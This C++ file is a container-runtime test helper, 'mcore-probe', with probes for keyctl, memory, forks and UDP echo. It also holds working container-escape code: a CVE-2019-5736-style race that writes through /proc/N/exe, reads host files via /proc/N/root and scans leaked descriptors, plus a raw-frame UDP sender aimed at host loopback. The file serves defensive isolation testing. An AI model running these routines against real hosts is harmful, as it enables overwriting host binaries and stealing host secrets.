// mcore-probe: a static helper the integration tests copy into container root filesystems to exercise
// what busybox cannot: keyctl, large allocations, fork loops, a UDP echo server, attacks on what mcore
// exposes to a container. Prints one line; exit code 0 on success.
#include <dirent.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>
#include <linux/keyctl.h>

namespace {

bool exists(const char* path) { return ::access(path, F_OK) == 0; }

// Reads up to 4 KiB of `fd`; "" on failure.
std::string read_some(int fd) {
  char buffer[4096];
  ssize_t n = ::read(fd, buffer, sizeof buffer);
  return n > 0 ? std::string(buffer, static_cast<std::size_t>(n)) : std::string();
}

// proc-race STOP RESULT MCORE_SIZES SECRET_PATH SECRET: the attack on processes of mcore that enter
// this container (CVE-2019-5736 and its kin). Until the file STOP exists it watches /proc, and on every
// process but itself, for as long as its executable is not known to be another than mcore's, it tries:
// to open /proc/N/exe for writing; to keep an O_PATH descriptor of it, reopened for writing later, once
// no running mcore makes the binary busy; to read SECRET_PATH, a host file, through /proc/N/root; to
// find descriptors above 3 (host namespaces, pidfds, sockets, the caller's files) in /proc/N/fd. An
// executable counts as mcore's when its size is one of MCORE_SIZES (comma-separated). After STOP appears it retries the held
// descriptors for 2 s, then writes "seen=N exe_held=N exe_written=N root_read=N extra_fds=N" to RESULT
// (each counts processes).
int proc_race(const char* stop, const char* result, const std::set<long>& mcore_sizes, const char* secret_path,
              const char* secret) {
  std::set<long> seen, settled, held_from, root_read, extra_fds;
  std::vector<int> held;
  long exe_written = 0;
  const long self = ::getpid();
  auto try_write = [&](int path_fd) {
    char reopen[64];
    std::snprintf(reopen, sizeof reopen, "/proc/self/fd/%d", path_fd);
    int fd = ::open(reopen, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) return errno == ETXTBSY;  // worth another try once mcore exited
    if (::write(fd, "X", 1) == 1) ++exe_written;
    ::close(fd);
    return false;
  };
  auto attack = [&](long pid) {
    char path[512];
    std::snprintf(path, sizeof path, "/proc/%ld/exe", pid);
    if (int fd = ::open(path, O_WRONLY | O_APPEND | O_CLOEXEC); fd >= 0) {
      struct stat status {};
      if (::fstat(fd, &status) == 0 && mcore_sizes.count(status.st_size) && ::write(fd, "X", 1) == 1) ++exe_written;
      ::close(fd);
    }
    if (int fd = ::open(path, O_PATH | O_CLOEXEC); fd >= 0) {
      struct stat status {};
      const bool is_mcore = ::fstat(fd, &status) == 0 && mcore_sizes.count(status.st_size);
      if (is_mcore && !held_from.count(pid) && try_write(fd)) {
        held.push_back(fd);
        held_from.insert(pid);
      } else {
        ::close(fd);
      }
      if (!is_mcore) {  // the container's own program runs there: nothing of mcore is left to find
        settled.insert(pid);
        return;
      }
    }
    std::snprintf(path, sizeof path, "/proc/%ld/root%s", pid, secret_path);
    if (int fd = ::open(path, O_RDONLY | O_CLOEXEC); fd >= 0) {
      if (read_some(fd).find(secret) != std::string::npos) root_read.insert(pid);
      ::close(fd);
    }
    for (int n = 4; n < 64; ++n) {
      char link[64], target[256];
      std::snprintf(link, sizeof link, "/proc/%ld/fd/%d", pid, n);
      if (::readlink(link, target, sizeof target) > 0) extra_fds.insert(pid);
    }
  };
  while (!exists(stop)) {
    DIR* proc = ::opendir("/proc");
    if (proc == nullptr) return 3;
    while (dirent* entry = ::readdir(proc)) {
      char* end = nullptr;
      const long pid = std::strtol(entry->d_name, &end, 10);
      if (*end != '\0' || pid <= 1 || pid == self || settled.count(pid)) continue;
      seen.insert(pid);
      attack(pid);
    }
    ::closedir(proc);
  }
  const std::size_t exe_held = held_from.size();
  for (int round = 0; round < 20 && !held.empty(); ++round, ::usleep(100000)) {
    std::vector<int> still_busy;
    for (int fd : held) {
      if (try_write(fd)) {
        still_busy.push_back(fd);
      } else {
        ::close(fd);
      }
    }
    held = still_busy;
  }
  FILE* out = std::fopen(result, "w");
  if (out == nullptr) return 4;
  std::fprintf(out, "seen=%zu exe_held=%zu exe_written=%ld root_read=%zu extra_fds=%zu\n", seen.size(), exe_held,
               exe_written, root_read.size(), extra_fds.size());
  return std::fclose(out) == 0 ? 0 : 4;
}

// The Internet checksum of `length` bytes.
std::uint16_t checksum(const unsigned char* data, std::size_t length) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < length; i += 2) sum += static_cast<std::uint32_t>(data[i] << 8 | data[i + 1]);
  if (length % 2 != 0) sum += static_cast<std::uint32_t>(data[length - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// The MAC address of `ip` in the ARP table, after making the kernel resolve it; false when it has none.
bool neighbour_mac(const char* ip, unsigned char mac[6]) {
  int probe = ::socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(9);
  ::inet_pton(AF_INET, ip, &to.sin_addr);
  ::sendto(probe, "", 0, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
  ::close(probe);
  for (int attempt = 0; attempt < 40; ++attempt, ::usleep(50000)) {
    FILE* arp = std::fopen("/proc/net/arp", "r");
    if (arp == nullptr) return false;
    char line[256];
    bool found = false;
    while (!found && std::fgets(line, sizeof line, arp) != nullptr) {
      char address[64], hw[64];
      unsigned type = 0, flags = 0;
      if (std::sscanf(line, "%63s 0x%x 0x%x %63s", address, &type, &flags, hw) == 4 && std::strcmp(address, ip) == 0 &&
          (flags & 0x2) != 0) {
        found = std::sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6;
      }
    }
    std::fclose(arp);
    if (found) return true;
  }
  return false;
}

// raw-udp GATEWAY DESTINATION PORT TEXT: a hand-made IPv4/UDP frame from eth0 to the gateway's MAC
// address but for DESTINATION (say 127.0.0.1, which no route of the container leads to), sent three
// times (CAP_NET_RAW, which default containers hold). Prints "sent".
int raw_udp(const char* gateway, const char* destination, int port, const char* text) {
  int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) return 3;
  ifreq request{};
  std::strncpy(request.ifr_name, "eth0", IFNAMSIZ - 1);
  if (::ioctl(fd, SIOCGIFINDEX, &request) != 0) return 3;
  const int index = request.ifr_ifindex;
  if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) return 3;
  unsigned char own_mac[6], gateway_mac[6];
  std::memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
  int inet = ::socket(AF_INET, SOCK_DGRAM, 0);
  if (::ioctl(inet, SIOCGIFADDR, &request) != 0) return 3;
  ::close(inet);
  const in_addr source = reinterpret_cast<sockaddr_in*>(&request.ifr_addr)->sin_addr;
  if (!neighbour_mac(gateway, gateway_mac)) return 4;

  unsigned char frame[1514] = {};
  const std::size_t text_length = std::min<std::size_t>(std::strlen(text), 1000);
  std::memcpy(frame, gateway_mac, 6);
  std::memcpy(frame + 6, own_mac, 6);
  frame[12] = 0x08;  // IPv4
  unsigned char* ip = frame + 14;
  const std::size_t ip_length = 20 + 8 + text_length;
  ip[0] = 0x45;
  ip[2] = static_cast<unsigned char>(ip_length >> 8);
  ip[3] = static_cast<unsigned char>(ip_length);
  ip[8] = 64;   // TTL
  ip[9] = 17;   // UDP
  std::memcpy(ip + 12, &source, 4);
  ::inet_pton(AF_INET, destination, ip + 16);
  const std::uint16_t ip_sum = checksum(ip, 20);
  ip[10] = static_cast<unsigned char>(ip_sum >> 8);
  ip[11] = static_cast<unsigned char>(ip_sum);
  unsigned char* udp = ip + 20;
  udp[0] = 0x9c;  // source port 40000
  udp[1] = 0x40;
  udp[2] = static_cast<unsigned char>(port >> 8);
  udp[3] = static_cast<unsigned char>(port);
  udp[4] = static_cast<unsigned char>((8 + text_length) >> 8);
  udp[5] = static_cast<unsigned char>(8 + text_length);  // checksum 0: none, as IPv4 allows
  std::memcpy(udp + 8, text, text_length);

  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = index;
  to.sll_halen = 6;
  std::memcpy(to.sll_addr, gateway_mac, 6);
  for (int i = 0; i < 3; ++i, ::usleep(100000)) {
    if (::sendto(fd, frame, 14 + ip_length, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) return 5;
  }
  std::printf("sent\n");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const char* command = argv[1];
  if (std::strcmp(command, "euid") == 0) {
    std::printf("%d\n", static_cast<int>(::geteuid()));
    return 0;
  }
  if (std::strcmp(command, "raw-udp") == 0 && argc == 6) return raw_udp(argv[2], argv[3], std::atoi(argv[4]), argv[5]);
  if (std::strcmp(command, "proc-race") == 0 && argc == 7) {
    std::set<long> sizes;
    for (char* size = std::strtok(argv[4], ","); size != nullptr; size = std::strtok(nullptr, ",")) {
      sizes.insert(std::atol(size));
    }
    return proc_race(argv[2], argv[3], sizes, argv[5], argv[6]);
  }
  if (std::strcmp(command, "keyctl") == 0) {
    long rc = ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1);
    std::printf("keyctl: %s\n", rc < 0 ? std::strerror(errno) : "allowed");
    return rc < 0 && errno == EPERM ? 0 : 1;
  }
  if (std::strcmp(command, "alloc") == 0 && argc == 3) {
    // Touch every page so the memory is really charged.
    long megabytes = std::atol(argv[2]);
    for (long i = 0; i < megabytes; ++i) {
      auto* block = static_cast<char*>(std::malloc(1 << 20));
      if (block == nullptr) return 3;
      std::memset(block, 1, 1 << 20);
    }
    std::printf("allocated %ld MiB\n", megabytes);
    return 0;
  }
  if (std::strcmp(command, "forks") == 0 && argc == 3) {
    // Forks children that sleep; reports how many forks succeeded before the first failure.
    long wanted = std::atol(argv[2]), made = 0;
    for (; made < wanted; ++made) {
      pid_t pid = ::fork();
      if (pid < 0) break;
      if (pid == 0) {
        ::sleep(2);
        ::_exit(0);
      }
    }
    std::printf("forked %ld\n", made);
    return 0;
  }
  if (std::strcmp(command, "udp-echo") == 0 && argc == 3) {
    // Answers every datagram on the port with "echo:" and the datagram, until killed.
    int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<std::uint16_t>(std::atoi(argv[2])));
    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) return 3;
    std::printf("listening\n");
    std::fflush(stdout);
    for (;;) {
      char buffer[512] = "echo:";
      sockaddr_in peer{};
      socklen_t length = sizeof peer;
      ssize_t n = ::recvfrom(fd, buffer + 5, sizeof buffer - 5, 0, reinterpret_cast<sockaddr*>(&peer), &length);
      if (n < 0) return 4;
      ::sendto(fd, buffer, static_cast<std::size_t>(n) + 5, 0, reinterpret_cast<sockaddr*>(&peer), length);
    }
  }
  return 2;
}
